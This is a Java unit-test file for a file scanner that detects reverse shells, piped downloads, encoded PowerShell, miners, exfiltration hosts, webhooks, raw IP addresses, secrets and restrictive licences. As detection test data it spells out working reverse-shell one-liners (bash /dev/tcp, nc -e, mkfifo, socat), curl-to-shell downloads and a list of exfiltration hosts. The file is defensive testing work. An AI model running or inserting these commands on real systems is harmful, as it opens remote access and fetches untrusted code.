package io.casemate.scan.indicator;

import static org.assertj.core.api.Assertions.assertThat;

import io.casemate.scan.executable.Machine;
import io.casemate.scan.trial.Direct;
import io.casemate.scan.trial.Trial;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.random.RandomGeneratorFactory;
import org.junit.jupiter.api.Test;

class SweepTest {
    private static final String REVERSE_SHELL = "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1";

    private static Trial sweep(byte[] bytes, long[]... tensors) {
        return Direct.of(
                bytes, (content, inspection) -> Sweep.run(content, List.of(tensors), List.of(tensors), inspection));
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Text among bytes that no text holds. */
    private static Trial inData(String text) {
        return sweep(latin("\1\2\0\0" + text + "\0\3"));
    }

    private static Trial inText(String text) {
        return sweep(latin("# Read me\n\n" + text + "\n"));
    }

    @Test
    void commands_and_hosts_in_data_are_told_by_their_rules() {
        Map.of(
                        REVERSE_SHELL,
                        "indicator/reverse-shell",
                        "nc -e /bin/sh 10.0.0.1 4242",
                        "indicator/reverse-shell",
                        "powershell.exe -nop -w hidden -enc " + "QUJD".repeat(20),
                        "indicator/encoded-command",
                        "curl -s https://host.example/x.sh | sh",
                        "indicator/piped-download",
                        "https://discord.com/api/webhooks/123456789012345678/" + "aB3_".repeat(17),
                        "indicator/webhook",
                        "https://api.telegram.org/bot123456789:" + "AbC-123".repeat(5),
                        "indicator/webhook",
                        "http://45.61.184.7:8080/stage2",
                        "indicator/raw-address",
                        "https://x1y2.oast.fun/?q=",
                        "indicator/exfiltration-host",
                        "stratum+tcp://pool.example:3333",
                        "indicator/miner")
                .forEach((text, rule) ->
                        assertThat(inData(text).rules()).as(text).containsExactly(rule));
    }

    @Test
    void what_a_readme_tells_people_to_do_is_only_mentioned() {
        for (String text : List.of(
                "Install: `curl -fsSL https://get.example.org/install.sh | sh`",
                "wget -qO- https://example.org/i.sh | bash",
                "The demo runs at http://34.120.8.9:7860",
                "share it with https://abcd.ngrok.io")) {
            assertThat(inText(text).rules()).as(text).containsExactly("indicator/mentioned");
        }
    }

    @Test
    void what_the_rows_of_a_data_set_quote_is_only_mentioned() {
        String row = "{\"prompt\": \"explain\", \"output\": \"%s is an attack\"}".formatted(REVERSE_SHELL);
        assertThat(sweep(latin(row + "\n" + row + "\n")).rules()).containsExactly("indicator/mentioned");
        assertThat(sweep(latin("[" + row + ",\n" + row + "]")).rules()).containsExactly("indicator/mentioned");
        assertThat(sweep(latin(row)).rules()).containsExactly("indicator/reverse-shell");
    }

    @Test
    void a_secret_of_a_known_shape_is_told_though_its_name_was_seen_first() {
        String key = "sk-" + "proj-Q8zT3vLk0WmX5rYb7NcD2hJf9PsGa4UeVi6KoRtM1xZqEwBy";
        assertThat(sweep(latin("{\"openai_api_key\": \"" + key + "\"}")).rules())
                .contains("secret/openai-key");
    }

    @Test
    void ordinary_text_and_data_are_silent() {
        for (String text : List.of(
                "call os.system('ls') and subprocess.run to list files",
                "see https://huggingface.co/docs and https://arxiv.org/abs/1706.03762",
                "git clone https://github.com/x/y && cd y && bash run.sh",
                "curl https://example.org/model.bin -o model.bin",
                "served at http://127.0.0.1:8080 or http://192.168.0.7/",
                "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")) {
            assertThat(inText(text).findings).as(text).isEmpty();
            assertThat(inData(text).findings).as(text).isEmpty();
        }
    }

    @Test
    void random_bytes_are_silent() {
        byte[] bytes = new byte[8 << 20];
        long seed = 20260304L;
        RandomGeneratorFactory.of("L64X128MixRandom").create(seed).nextBytes(bytes);
        Trial trial = sweep(bytes);
        assertThat(trial.findings).as("seed %d", seed).isEmpty();
        assertThat(trial.facts).as("seed %d", seed).doesNotContainKey("licence");
    }

    @Test
    void a_sign_is_found_wherever_a_window_ends() {
        for (int place = (128 << 10) - 60;
                place < (256 << 10) + 20;
                place += place == (128 << 10) + 20 ? (128 << 10) - 80 : 1) {
            byte[] bytes = new byte[300_000];
            System.arraycopy(latin(REVERSE_SHELL), 0, bytes, place, REVERSE_SHELL.length());
            assertThat(sweep(bytes).findings)
                    .as("at %d", place)
                    .singleElement()
                    .matches(told -> told.rule().equals("indicator/reverse-shell"));
        }
    }

    @Test
    void words_inside_tensors_are_no_words_but_executables_are_found_there() {
        byte[] bytes = new byte[4096];
        System.arraycopy(latin(REVERSE_SHELL), 0, bytes, 1000, REVERSE_SHELL.length());
        byte[] program = Machine.elf();
        System.arraycopy(program, 0, bytes, 2001, program.length);
        assertThat(sweep(bytes, new long[] {2000, 2000}, new long[] {500, 1000}).findings)
                .singleElement()
                .matches(told -> told.rule().equals("executable/embedded") && told.offset() == 2001);
    }

    @Test
    void spans_that_lie_are_survived() {
        byte[] bytes = latin("\0" + REVERSE_SHELL);
        for (long[] span : List.of(
                new long[] {-5, 3}, new long[] {1 << 20, 9}, new long[] {3, Long.MAX_VALUE}, new long[] {2, -1})) {
            assertThat(sweep(bytes, span, span).gaps).as(Arrays.toString(span)).isEmpty();
        }
    }

    @Test
    void a_private_key_is_told_and_never_shown() {
        byte[] der = new byte[302];
        RandomGeneratorFactory.of("L64X128MixRandom").create(7).nextBytes(der);
        der[0] = 0x30;
        der[1] = (byte) 0x82;
        der[2] = (byte) ((der.length - 4) >> 8);
        der[3] = (byte) (der.length - 4);
        String key = Base64.getEncoder().encodeToString(der);
        Trial trial = inData("-----BEGIN PRIVATE KEY-----\n" + key + "\n-----END PRIVATE KEY-----");
        assertThat(trial.rules()).containsExactly("secret/private-key");
        assertThat(trial.findings.getFirst().message()).doesNotContain(key.substring(8, 16));
    }

    @Test
    void licences_and_hosts_are_facts_and_restrictive_ones_are_told() {
        Trial trial =
                inText("---\nlicense: cc-by-nc-4.0\n---\nsee https://huggingface.co/a and https://huggingface.co/b");
        assertThat(trial.facts).containsEntry("licence", "CC-BY-NC-4.0").containsEntry("hosts", "huggingface.co");
        assertThat(trial.rules()).containsExactly("licence/restrictive");
        assertThat(inText("use with the GNU Affero General Public License").findings)
                .isEmpty();
    }

    @Test
    void control_characters_of_hostile_text_are_not_shown() {
        Trial trial = inData("stratum+tcp://pool.example:3333/\u001b[31m");
        assertThat(trial.findings.getFirst().message()).doesNotContain("\u001b");
    }

    @Test
    void addresses_of_the_whole_world_are_told_and_those_at_home_are_not() {
        for (String host : List.of(
                "172.15.0.1", "172.32.0.1", "192.167.0.1", "100.63.0.1", "100.128.0.1", "11.0.0.1", "223.0.0.1")) {
            assertThat(inData("http://" + host + "/").rules()).as(host).containsExactly("indicator/raw-address");
        }
        for (String host : List.of(
                "172.16.0.1",
                "172.31.0.1",
                "192.168.0.1",
                "100.64.0.1",
                "100.127.0.1",
                "10.9.9.9",
                "224.0.0.1",
                "192.0.2.7",
                "198.51.100.7",
                "203.0.113.7",
                "1.2.3.4",
                "0.0.0.0",
                "300.1.1.1")) {
            assertThat(inData("http://" + host + "/").rules()).as(host).isEmpty();
        }
    }

    @Test
    void the_host_stands_behind_who_logs_in_there() {
        assertThat(inData("http://huggingface.co@45.61.184.7/x").rules()).containsExactly("indicator/raw-address");
    }

    @Test
    void hosts_that_take_data_out_are_told() {
        for (String url : List.of(
                "a.ngrok.io",
                "a.ngrok-free.app",
                "a.trycloudflare.com",
                "a.burpcollaborator.net",
                "a.oastify.com",
                "a.oast.fun",
                "a.oast.pro",
                "a.oast.live",
                "a.oast.site",
                "a.oast.online",
                "a.oast.me",
                "a.interact.sh",
                "webhook.site/1",
                "pastebin.com/raw/1",
                "transfer.sh/1",
                "a.pipedream.net",
                "a.requestbin.com",
                "abcdefghij234567.onion")) {
            assertThat(inData("http://" + url).rules()).as(url).containsExactly("indicator/exfiltration-host");
        }
    }

    @Test
    void shells_and_downloads_are_told_in_each_way_they_are_written() {
        Map.of(
                        "nc -l 10.0.0.1 4242 -e x",
                        "indicator/reverse-shell",
                        "ncat 10.0.0.1 4242 -e /bin/bash",
                        "indicator/reverse-shell",
                        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242",
                        "indicator/reverse-shell",
                        "socat tcp:10.0.0.1:4242 exec:'bash -li'",
                        "indicator/reverse-shell",
                        "curl -s https://host.example/x.py | python3",
                        "indicator/piped-download",
                        "wget -q https://host.example/x.sh && bash x.sh",
                        "indicator/piped-download",
                        "stratum+ssl://pool.example:3333",
                        "indicator/miner",
                        "./xmrig -o pool",
                        "indicator/miner")
                .forEach((text, rule) ->
                        assertThat(inData(text).rules()).as(text).containsExactly(rule));
    }

    @Test
    void licences_that_forbid_selling_or_bind_services_are_told_and_others_are_not() {
        for (String id : List.of(
                "agpl-3.0",
                "cc-by-nc-4.0",
                "cc-by-nc-2.0",
                "cc-by-nc-sa-4.0",
                "cc-by-nc-nd-4.0",
                "agpl-3.0-or-later")) {
            assertThat(inText("license: " + id).rules()).as(id).containsExactly("licence/restrictive");
        }
        for (String id : List.of("mit", "apache-2.0", "gpl-3.0", "lgpl-3.0", "cc-by-4.0", "cc-by-sa-4.0", "llama2")) {
            assertThat(inText("license: " + id).findings).as(id).isEmpty();
            assertThat(inText("license: " + id).facts).as(id).containsKey("licence");
        }
    }

    @Test
    void a_secret_that_shows_in_two_ways_is_told_once() {
        var letters = new StringBuilder();
        RandomGeneratorFactory.of("L64X128MixRandom")
                .create(20261121L)
                .ints(116, 0, 62)
                .forEach(i ->
                        letters.append("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".charAt(i)));
        String key = "sk-proj-" + letters.substring(58) + "T3BlbkFJ" + letters.substring(0, 58);
        assertThat(inData("{\"openai_api_key\": \"" + key + "\"}").findings).hasSize(1);
    }
}
